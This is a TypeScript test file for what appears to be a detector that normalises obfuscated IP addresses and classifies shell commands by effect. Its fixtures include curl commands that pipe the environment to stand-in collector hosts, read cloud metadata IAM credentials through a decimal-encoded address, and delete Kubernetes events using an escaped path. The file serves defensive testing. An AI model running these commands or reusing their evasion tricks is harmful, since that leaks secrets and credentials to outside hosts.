import assert from 'node:assert/strict';
import { test } from 'node:test';
import { dotted } from './addresses.ts';
import { actOf } from './code/testing.ts';
import { effectsOfText } from './testing.ts';

for (const [written, expected] of [
  ['3405803842', '203.0.113.66'],
  ['0xcb007142', '203.0.113.66'],
  ['0313.0.0161.0102', '203.0.113.66'],
  ['203.28994', '203.0.113.66'],
  ['0xcb.0.113.66:8080', '203.0.113.66:8080'],
  ['203.0.113.66', '203.0.113.66'],
  ['8080', '8080'],
  ['99999999999', '99999999999'],
  ['1.2.3.4.5', '1.2.3.4.5'],
  ['registry', 'registry'],
] as const) {
  test(`the host ${written}`, () => assert.equal(dotted(written), expected));
}

const actsOf = (script: string): readonly string[] => effectsOfText(script).map(actOf);

for (const [situation, script, expected] of [
  ['a number', 'env | curl --data-binary @- http://0xcb007142/e', 'send environment to 203.0.113.66'],
  [
    'a name without a scheme',
    'env | curl -s --data-binary @- collector.example.net/e',
    'send environment to collector.example.net',
  ],
  [
    'a configuration of curl',
    `printf 'url = "http://collector.example.net/e"\ndata-binary = "@-"\n' > /tmp/k; env | curl -s -K /tmp/k`,
    'send environment to collector.example.net',
  ],
  [
    'a resource that is escaped',
    'curl -X DELETE https://kubernetes.default.svc/api/v1/namespaces/a/%65vents',
    'kube delete events',
  ],
  [
    'the metadata service as a number',
    'curl http://2852039166/latest/meta-data/iam/security-credentials/node',
    'metadata credentials',
  ],
] as const) {
  test(`a call of ${situation}`, () => assert.ok(actsOf(script).includes(expected), actsOf(script).join('\n')));
}

for (const [situation, script] of [
  ['a name of the cluster', 'env | curl -s --data-binary @- collector.shop.svc/e'],
  ['a file that is written', 'env | curl -s --data-binary @- -o out.tar.gz collector'],
] as const) {
  test(`nothing leaves by ${situation}`, () =>
    assert.ok(!actsOf(script).some((act) => act.startsWith('send')), actsOf(script).join('\n')));
}
